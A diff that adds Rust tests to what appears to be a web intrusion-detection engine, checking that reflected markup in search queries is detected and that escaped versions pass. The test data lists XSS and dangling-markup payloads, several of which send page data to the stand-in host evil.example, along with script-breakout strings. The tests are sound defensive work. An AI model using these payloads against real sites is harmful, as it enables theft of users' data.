@@ -399,3 +399,62 @@ fn what_is_reflected_cannot_hide_behind_others_nor_be_split() {
         assert_eq!(page(&format!("q={word}"), own), "", "{word}");
     }
 }
+
+#[test]
+fn a_page_that_may_reflect_is_asked_for_in_a_coding_that_is_read() {
+    let saw = |policy: &str, target: &str, accept: &str| {
+        let ask = Ask::get(target).header("sec-fetch-site", "same-origin").header("accept-encoding", accept);
+        ask.to(&engine(policy)).app_saw("accept-encoding").unwrap_or_default().to_owned()
+    };
+    let (open, suspect) = ("[intrusion]\nallow = [\"html\"]", "/search?q=%3Cscript%3Ea%3C/script%3E");
+    assert_eq!(saw(open, suspect, "gzip, br;q=0.9, deflate, zstd"), "gzip, deflate");
+    assert_eq!(saw(open, suspect, "br, *"), "identity");
+    assert_eq!(saw(open, suspect, "gzip, deflate"), "gzip, deflate");
+    assert_eq!(saw(open, "/search?q=tea", "gzip, br"), "gzip, br");
+    assert_eq!(saw("[intrusion]\nallow = [\"html\"]\nreflection = \"0B\"", suspect, "gzip, br"), "gzip, br");
+}
+
+#[test]
+fn what_is_reflected_acts_in_styles_scripts_and_by_quotes_left_open() {
+    let answered = |sent: &str, shown: &str| {
+        let policy = "[intrusion]\nallow = [\"html\", \"js\", \"sql\", \"shell\", \"template\", \"url\", \"python\"]";
+        let query: String = sent.bytes().map(|byte| format!("%{byte:02x}")).collect();
+        let ask = Ask::get(&format!("/search?q={query}")).header("sec-fetch-site", "same-origin");
+        let page = format!("<!doctype html><style>p {{ color: red }}</style><script>var t = 'x';{shown}");
+        let page = if shown.starts_with('<') {
+            format!("<!doctype html><p>You searched for {shown}</p><a href='/'>Home</a><a href=\"/b\">b</a>")
+        } else {
+            page
+        };
+        ask.answered_with(&engine(policy), &[("content-type", "text/html")], page.as_bytes()).rules().join(",")
+    };
+    let escaped = |value: &str| format!("<b>{}</b>", value.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;"));
+    for value in [
+        "<style>p{background:url(//evil.example/?a)}</style>",
+        "<style>@import '//evil.example/a.css';",
+        "<img src='//evil.example/?",
+        "<a href=\"//evil.example/?",
+        "<table background='//evil.example/?",
+        "<plaintext>",
+        "<base href=//evil.example/>",
+        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+        "<link rel=stylesheet href=//evil.example/a.css>",
+        "<form action=//evil.example/><input name=a>",
+        "<svg><animate attributename=href values=javascript:alert(1) />",
+        "<div><template shadowrootmode=open><p>x</template></div>",
+    ] {
+        assert_eq!(answered(value, value), "reflected-markup", "{value}");
+        assert_eq!(answered(value, &escaped(value)), "", "{value}");
+    }
+    for value in ["\";alert(1)//", "\"-alert(1)-\""] {
+        assert_eq!(answered(value, &format!("var q = \"{value}\";</script>")), "reflected-markup", "{value}");
+        assert_eq!(answered(value, &format!("var q = \"{}\";</script>", value.replace('"', "\\\""))), "", "{value}");
+        assert_eq!(answered(value, &format!("</script><p>{value}")), "", "{value}");
+    }
+    for ordinary in
+        ["<style>", "<textarea>", "<img src=\"https://example.com/a.png\" alt=\"a\">", "<!--", "<template>", "O'Brien (x=1)"]
+    {
+        assert_eq!(answered(ordinary, &format!("<i>{ordinary}</i>")), "", "{ordinary}");
+        assert_eq!(answered(ordinary, &format!("var q = \"{ordinary}\";</script>")), "", "{ordinary}");
+    }
+}
